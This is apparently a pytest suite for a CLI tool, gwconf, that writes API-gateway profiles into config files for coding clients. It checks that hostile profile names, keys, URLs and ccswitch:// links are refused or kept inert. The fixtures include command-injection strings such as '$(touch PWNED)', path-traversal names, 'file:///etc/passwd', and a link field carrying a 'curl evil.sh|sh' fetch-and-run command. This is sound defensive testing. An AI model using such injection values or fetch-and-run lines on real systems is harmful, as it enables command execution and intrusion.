"""Hostile names and values (issue 8): nothing a profile, a key or a link holds may break out of
the place it is written to, or out of gwconf's folders.

- profile names with ``../``, ``/``, NUL, control characters, a trailing newline, 10,000 characters;
- base addresses with ``user:password@``, spaces, ``#fragment``, a query, look-alike hosts;
- keys, models and addresses with quotes, newlines, ``$(...)``, backticks, fake block markers,
  JSON/TOML/YAML syntax: the written files still parse to exactly the intended structure (checked
  with other parsers: json, tomllib, PyYAML, bash), and sourcing the rc block or the .env in bash
  sets exactly the intended values and runs nothing;
- ``ccswitch://`` links with extra, duplicate or injected fields.
"""

from __future__ import annotations

import json
import os
import subprocess
import tomllib
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.conftest import invoke

BENIGN_KEY = "sk-benign-0123456789abcdef"
PWNED = "PWNED"  # a file any executed injection would create in the working folder

HOSTILE_KEYS = [
    "sk-q\"uote'single",
    'sk-nl\ninjected = "x"\n[evil]\nk = 1',
    f"sk-dollar$(touch {PWNED})`touch {PWNED}`${{HOME}}",
    f"sk-end\n# <<< gwconf <<<\ntouch {PWNED}\n# >>> gwconf >>>",
    'sk-json\\"},"evil":{"a":"',
    "sk-yaml: {evil: 1} # not a comment",
    "sk-crlf\r\nEVIL=1",
    "sk-ключ-🔑-\u202e-tab\tx",
    "sk-'; touch PWNED; echo '",
    "sk-' \\' \"\\\" \\\\",
]
HOSTILE_MODELS = [
    "m\"od'el #x: {y}",
    f"$(touch {PWNED})",
    "gpt-5 # comment? ]]",
]
HOSTILE_BASES = [
    "https://gw.example.com/a'b\"c/v1",
    f"https://gw.example.com/$(touch%20{PWNED})/`x`/v1",
]


def _profile(
    path: Path, *, key: str, model: str = "my-model", base: str = "https://gw.example.com/v1"
) -> str:
    """A profile file (TOML basic strings: json.dumps's escapes are valid there)."""
    path.write_text(
        f"base_url = {json.dumps(base, ensure_ascii=False)}\n"
        f"model = {json.dumps(model, ensure_ascii=False)}\n"
        f"key = {json.dumps(key, ensure_ascii=False)}\n"
    )
    return str(path)


def _bash_env(script: str, cwd: Path) -> dict[str, str]:
    """The environment bash ends with after ``script`` (NUL-separated, so any value survives)."""
    done = subprocess.run(
        ["bash", "--norc", "--noprofile", "-c", script + "\nenv -0"],
        capture_output=True,
        cwd=cwd,
        env={"PATH": os.environ["PATH"], "HOME": os.environ["HOME"]},
        check=True,
    )
    pairs = [item.split("=", 1) for item in done.stdout.decode().split("\0") if "=" in item]
    return {name: value for name, value in pairs if name not in ("_", "SHLVL", "PWD", "OLDPWD")}


# file relative to HOME -> how to read it with a parser that is not gwconf's
READERS = {
    ".claude/settings.json": json.loads,
    ".codex/auth.json": json.loads,
    ".codex/config.toml": tomllib.loads,
    ".aider.conf.yml": yaml.safe_load,
    ".continue/config.yaml": yaml.safe_load,
    ".continue/.env": "bash",
    ".bashrc": "bash",
}
CLIENTS = ("claude-code", "codex", "aider", "continue", "shell")


def _seed(home: Path, chatgpt_login: bool) -> None:
    (home / ".bashrc").write_text('# mine\nexport KEEP="me"\n')
    (home / ".aider.conf.yml").write_text("# aider\nmodel: old\n")
    if chatgpt_login:  # Codex keeps the login: the key goes into config.toml instead of auth.json
        (home / ".codex").mkdir()
        (home / ".codex" / "auth.json").write_text('{"auth_mode": "chatgpt", "tokens": {"id_token": "t"}}\n')


def _read_all(home: Path, work: Path) -> dict[str, Any]:
    found: dict[str, Any] = {}
    for name, reader in READERS.items():
        path = home / name
        if not path.exists():
            continue
        if reader == "bash":
            found[name] = _bash_env(f"set -a; . {json.dumps(str(path))}", work)
        else:
            found[name] = reader(path.read_text(encoding="utf-8"))
    return found


def _swap(value: Any, old: str, new: str) -> Any:
    if isinstance(value, dict):
        return {_swap(k, old, new): _swap(v, old, new) for k, v in value.items()}
    if isinstance(value, list):
        return [_swap(v, old, new) for v in value]
    if isinstance(value, str):
        return value.replace(old, new)
    return value


def _values(value: Any) -> list[Any]:
    if isinstance(value, dict):
        return [v for item in value.values() for v in _values(item)]
    if isinstance(value, list):
        return [v for item in value for v in _values(item)]
    return [value]


def _applied(home: Path, tmp_path: Path, name: str, chatgpt_login: bool, **fields: str) -> tuple[Any, Any]:
    """(what the files read as with a benign value, what they read as with the hostile one)."""
    results = []
    for variant in ("benign", "hostile"):
        for path in list(home.iterdir()):
            subprocess.run(["rm", "-rf", str(path)], check=True)
        _seed(home, chatgpt_login)
        values = {k: (v[0] if variant == "benign" else v[1]) for k, v in fields.items()}
        profile = _profile(tmp_path / f"{name}-{variant}.toml", **values)
        result = invoke("apply", *CLIENTS, "-p", profile)
        assert "Traceback" not in result.output and "unexpected error" not in result.output, result
        if variant == "hostile" and result.exit_code == 1:
            return None, result  # refused with a clear error: acceptable
        assert result.exit_code == 0, result
        results.append(_read_all(home, Path.cwd()))
        assert not (Path.cwd() / PWNED).exists(), "an injected command ran"
    return results[0], results[1]


@pytest.mark.parametrize("key", HOSTILE_KEYS, ids=range(len(HOSTILE_KEYS)))
@pytest.mark.parametrize("chatgpt_login", [False, True], ids=["key-in-auth-json", "key-in-config-toml"])
def test_hostile_keys_stay_values(home: Path, tmp_path: Path, key: str, chatgpt_login: bool) -> None:
    benign, hostile = _applied(home, tmp_path, "k", chatgpt_login, key=(BENIGN_KEY, key))
    if benign is None:
        # issue 18 item 5: no spelling in Continue's .env reads the same in npm dotenv,
        # python-dotenv and a shell: refused with that reason, never written another way
        assert "has no spelling in a .env file" in hostile.stderr, f"a key was refused: {hostile}"
        assert "'" in key or "${" in key or "\r" in key
        return
    assert hostile == _swap(benign, BENIGN_KEY, key), "the key changed the structure of a file"
    assert hostile[".bashrc"]["OPENAI_API_KEY"] == key
    assert hostile[".bashrc"]["KEEP"] == "me"
    where = ".codex/config.toml" if chatgpt_login else ".codex/auth.json"
    assert key in _values(hostile[where]), f"{where} does not hold the key as one value"


@pytest.mark.parametrize("model", HOSTILE_MODELS, ids=range(len(HOSTILE_MODELS)))
def test_hostile_models_stay_values(home: Path, tmp_path: Path, model: str) -> None:
    benign, hostile = _applied(
        home, tmp_path, "m", False, key=(BENIGN_KEY, BENIGN_KEY), model=("benign-model", model)
    )
    assert benign is not None, hostile
    assert hostile == _swap(benign, "benign-model", model)


@pytest.mark.parametrize("base", HOSTILE_BASES, ids=range(len(HOSTILE_BASES)))
def test_hostile_addresses_stay_values(home: Path, tmp_path: Path, base: str) -> None:
    benign, hostile = _applied(
        home, tmp_path, "b", False, key=(BENIGN_KEY, BENIGN_KEY), base=("https://gw.example.com/zzz/v1", base)
    )
    if benign is None:
        return  # refused with a clear error
    assert hostile == _swap(benign, "https://gw.example.com/zzz", base.removesuffix("/v1"))


# -- names -----------------------------------------------------------------------------------------

BAD_NAMES = [
    "../evil",
    "../../../../tmp/evil",
    "a/b",
    "/abs",
    "x\x00y",
    "work\n",
    "work\nactive",
    "\x1b[31mred",
    "tab\there",
    "w" * 10_000,
    "",
    ".",
    "..",
    ".hidden",
    "-rf",
    "wоrk",  # Cyrillic o
    "name with space",
    "con:",
]


def _gw_tree(root: Path) -> list[str]:
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*")) if root.exists() else []


@pytest.mark.parametrize("name", BAD_NAMES, ids=range(len(BAD_NAMES)))
def test_hostile_profile_names_are_refused_everywhere(
    home: Path, tmp_path: Path, profile: str, name: str
) -> None:
    gw = tmp_path / "gwconf"
    before = _gw_tree(gw)
    commands = [
        ("profile", "add", name, "--base-url", "https://gw.example.com/v1", "--key", BENIGN_KEY),
        ("profile", "show", name),
        ("profile", "remove", name),
        ("profile", "rename", "work", name),
        ("use", name),
        ("profile", "import-link", "--name", name,
         "ccswitch://v1/import?resource=provider&app=codex&name=X&endpoint=https://gw.example.com/v1&apiKey=" + BENIGN_KEY),
    ]  # fmt: skip
    for command in commands:
        if command[1] == "import-link" and name == "":
            continue  # an empty --name means: the link's own name
        if "\x00" in name:
            continue  # no process can receive a NUL in an argument; the library path is checked below
        result = invoke(*command)
        assert result.exit_code in (1, 2), (command, result)
        assert "Traceback" not in result.output and "unexpected error" not in result.output, (command, result)
        assert _gw_tree(gw) == before, (command, "a file was created or removed")
    assert (gw / "active").read_text() == "work\n"
    assert not list(tmp_path.rglob("evil*")), "a file escaped the profiles folder"
    from gwconf.errors import ProfileError
    from gwconf.profiles import validate_name

    with pytest.raises(ProfileError):
        validate_name(name)


BAD_BASES = [
    ("https://user:password@gw.example.com/v1", "user name or password"),
    ("https://sk-inurl-0123456789abcdef@gw.example.com/v1", "user name or password"),
    ("https://gw.example.com/ v1", "spaces"),
    ("https://gw.example.com/v1#fragment", "#fragment"),
    ("https://gw.example.com/v1?key=sk-inquery-0123456789", "query"),
    ("https://gw.example.com/v1\r\nX-Injected: 1", "spaces"),
    ("file:///etc/passwd", "not an http(s) URL"),
    ("javascript:alert(1)", "not an http(s) URL"),
    ("https:///v1", "no host"),
]


@pytest.mark.parametrize(("base", "words"), BAD_BASES, ids=range(len(BAD_BASES)))
def test_hostile_base_addresses_are_refused(home: Path, tmp_path: Path, base: str, words: str) -> None:
    result = invoke("profile", "add", "x", "--base-url", base, "--key", BENIGN_KEY)
    assert result.exit_code == 1 and words in result.stderr, result
    assert "sk-inurl-0123456789abcdef" not in result.output and "sk-inquery-0123456789" not in result.output
    assert not (tmp_path / "gwconf" / "profiles" / "x.toml").exists()
    file = _profile(tmp_path / "p.toml", key=BENIGN_KEY, base=base)
    result = invoke("apply", "claude-code", "-p", file)
    assert result.exit_code == 1 and words in result.stderr, result
    assert not (home / ".claude").exists()


def test_a_look_alike_host_is_flagged(home: Path) -> None:
    result = invoke("profile", "add", "x", "--base-url", "https://gw.exаmple.com/v1", "--key", BENIGN_KEY)
    assert "non-ASCII" in result.stderr and "look-alike" in result.stderr, result
    link = (
        "ccswitch://v1/import?resource=provider&app=codex&name=X&endpoint=https://gw.ex%D0%B0mple.com/v1"
        f"&apiKey={BENIGN_KEY}"
    )
    result = invoke("profile", "import-link", link, "--name", "y")
    assert result.exit_code == 1 and "non-ASCII" in result.stderr, result


def test_hostile_model_names_from_the_command_line(home: Path, tmp_path: Path) -> None:
    """A model with a line break is refused when the profile is saved, not later by every command."""
    result = invoke(
        "profile",
        "add",
        "x",
        "--base-url",
        "https://gw.example.com/v1",
        "--model",
        "a\nb",
        "--key",
        BENIGN_KEY,
    )
    assert result.exit_code == 1 and "model" in result.stderr, result
    assert not (tmp_path / "gwconf" / "profiles" / "x.toml").exists()


# -- ccswitch:// links ------------------------------------------------------------------------------

BASE_LINK = "ccswitch://v1/import?resource=provider&app=codex&name=Work&endpoint=https://gw.example.com/v1"
KEY_PART = f"&apiKey={BENIGN_KEY}"
BAD_LINKS = [
    (BASE_LINK + KEY_PART + "&apiKey=sk-second-0123456789abcdef", "appears twice"),
    (BASE_LINK + KEY_PART + "&endpoint=https://evil.example.net/v1", "appears twice"),
    (BASE_LINK.replace("name=Work", "name=Work%0Akey%20%3D%20%22x%22") + KEY_PART, "control"),
    (BASE_LINK.replace("name=Work", "name=..%2F..%2F%0D") + KEY_PART, "control"),
    (BASE_LINK + "&apiKey=sk-abc%0Aexport%20EVIL%3D1", "line break"),
    (BASE_LINK + "&apiKey=sk-abc%22%3B%20touch%20PWNED", "quotes"),
    (
        BASE_LINK.replace("https://gw.example.com/v1", "https://evil.example.net%23@gw.example.com/v1")
        + KEY_PART,
        "",
    ),
    (
        BASE_LINK.replace("https://gw.example.com/v1", "https://user:pw@gw.example.com/v1") + KEY_PART,
        "user name",
    ),
    (BASE_LINK.replace("https://gw.example.com/v1", "javascript:alert(1)") + KEY_PART, "http(s)"),
    (BASE_LINK.replace("https://gw.example.com/v1", "https://api.openai.com/v1") + KEY_PART, "vendor"),
    (BASE_LINK.replace("resource=provider", "resource=mcp") + KEY_PART, "provider"),
    (BASE_LINK.replace("app=codex", "app=..%2F..") + KEY_PART, "app"),
    (BASE_LINK + KEY_PART + "#frag", "fragment"),
    (BASE_LINK + KEY_PART + "&na%00me=x", "unusable name"),
    (BASE_LINK + KEY_PART + "&x=" + "a" * 20_000, "characters long"),
    (BASE_LINK + KEY_PART + "&name%5B%5D=x", "unusable name"),
    (BASE_LINK + KEY_PART + "".join(f"&f{i}=1" for i in range(100)), "malformed"),
    ("https://gw.example.com/v1?" + KEY_PART, "ccswitch://"),
]


@pytest.mark.parametrize(("link", "words"), BAD_LINKS, ids=range(len(BAD_LINKS)))
def test_hostile_ccswitch_links_are_refused(home: Path, tmp_path: Path, link: str, words: str) -> None:
    result = invoke("profile", "import-link", "-", input=link)
    assert result.exit_code == 1, result
    assert "Traceback" not in result.output and "unexpected error" not in result.output
    assert words in result.stderr, result
    assert not (tmp_path / "gwconf" / "profiles").exists() or not list(
        (tmp_path / "gwconf" / "profiles").iterdir()
    )
    for secret in (BENIGN_KEY, "sk-second-0123456789abcdef"):
        assert secret not in result.output


def test_a_link_with_extra_fields_imports_only_what_gwconf_checks(home: Path, tmp_path: Path) -> None:
    link = (
        BASE_LINK
        + KEY_PART
        + "&model=my-model&usageScript=curl%20evil.sh%7Csh&configUrl=https://evil.example/c"
        "&config=eyJldmlsIjoxfQ&notes=hi&extraThing=1&enabled=true"
    )
    result = invoke("profile", "import-link", "-", "--json", input=link)
    assert result.exit_code == 0, result
    data = json.loads(result.stdout)
    assert any("usageScript" in w for w in data["warnings"]) and any(
        "extraThing" in w for w in data["warnings"]
    )
    saved = (tmp_path / "gwconf" / "profiles" / "work.toml").read_text()
    assert tomllib.loads(saved) == {
        "base_url": "https://gw.example.com/v1",
        "model": "my-model",
        "key": BENIGN_KEY,
    }
    assert "evil" not in saved
    assert BENIGN_KEY not in result.output


def test_a_link_name_with_a_path_becomes_a_plain_profile_name(home: Path, tmp_path: Path) -> None:
    link = BASE_LINK.replace("name=Work", "name=..%2F..%2Fevil") + KEY_PART
    result = invoke("profile", "import-link", "-", input=link)
    assert result.exit_code == 0, result
    assert sorted(p.name for p in (tmp_path / "gwconf" / "profiles").iterdir()) == ["evil.toml"]
    assert not list(tmp_path.glob("evil*")) and not list(home.rglob("evil*"))
